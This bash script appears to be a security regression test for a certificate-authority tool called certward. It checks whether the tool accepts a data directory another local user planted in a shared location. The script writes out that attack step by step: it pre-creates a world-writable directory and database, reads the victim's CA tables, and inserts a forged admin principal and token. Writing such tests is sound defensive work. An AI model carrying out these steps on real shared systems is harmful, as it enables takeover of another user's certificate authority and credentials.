#!/usr/bin/env bash
# A data directory that another local user planted is used as is. certward accepts an existing
# data directory without looking at its owner or mode, and opens the SQLite file with O_CREAT
# but without O_EXCL/O_NOFOLLOW or an ownership check. So when the data directory sits in a
# shared place (the default "certward-data" is relative to the working directory: running from
# /tmp makes it /tmp/certward-data), an attacker who creates the directory first, with an empty
# world-writable certward.db in it, ends up owning the victim's database: they read every table
# (sealed CA keys, inventory, audit log) and write to it, here minting themselves an admin token
# that the victim's server then honours.
# Expected: refuse a data directory (and database, master key) not owned by the user or open
# to group/others, as `init` would have created it (0700), or at least create the database
# exclusively. Needs root (setpriv) to act as two users.
source "$(dirname "$0")/lib.sh"
[[ $(id -u) == 0 ]] || { echo "SKIP: needs root to switch users"; exit 0; }
VICTIM=4001 ATTACKER=4002
as() { local u=$1; shift; setpriv --reuid="$u" --regid="$u" --clear-groups "$@"; }
chmod 711 "$T"
S=$T/shared
mkdir "$S" && chmod 1777 "$S"
D=$S/certward-data

# The attacker prepares the directory and an empty database file, world-writable.
as $ATTACKER mkdir -m 0777 "$D"
as $ATTACKER sh -c "umask 0; : >'$D/certward.db'"

# The victim initialises certward there and starts its server.
cat >"$T/victim-certward" <<SH
#!/bin/sh
exec setpriv --reuid=$VICTIM --regid=$VICTIM --clear-groups "$CERTWARD_BIN" "\$@"
SH
chmod 755 "$T/victim-certward"
export CERTWARD_DATA_DIR=$D
rc=0
"$T/victim-certward" init >/dev/null 2>"$T/init.err" || rc=$?
if [[ $rc != 0 ]]; then
  pass  # refused: what we want
  finish
  exit
fi
fail "init accepted a data directory owned by uid $(stat -c %u "$D") with mode $(stat -c %a "$D")"
assert_eq "$VICTIM" "$(stat -c %u "$D/certward.db")" "owner of the victim's database"

# The attacker reads the victim's CA table and adds an admin principal and token.
if as $ATTACKER sqlite3 "$D/certward.db" "SELECT name FROM authorities" | grep -qx root; then
  fail "another user reads the victim's database"
fi
token="cwt_0123456789abcdef_$(printf 'A%.0s' $(seq 1 43))"
hash=$(printf '%s' "$token" | sha256sum | cut -d' ' -f1)
as $ATTACKER sqlite3 "$D/certward.db" "
  INSERT INTO principals (name, role, team, disabled, created_at) VALUES ('mallory', 'admin', NULL, 0, 0);
  INSERT INTO tokens (id, hash, principal, role, team, description, created_at, expires_at, revoked_at)
    VALUES ('0123456789abcdef', '$hash', 'mallory', 'admin', NULL, '', 0, NULL, NULL);" 2>/dev/null || true

CERTWARD_BIN=$T/victim-certward
start_server
got=$(api GET /api/v1/whoami "$token")
if [[ $got == 200 ]]; then
  fail "the attacker's planted token is an $(jq -r .role "$T/resp") on the victim's server"
else
  pass
fi
stop_server || true
finish
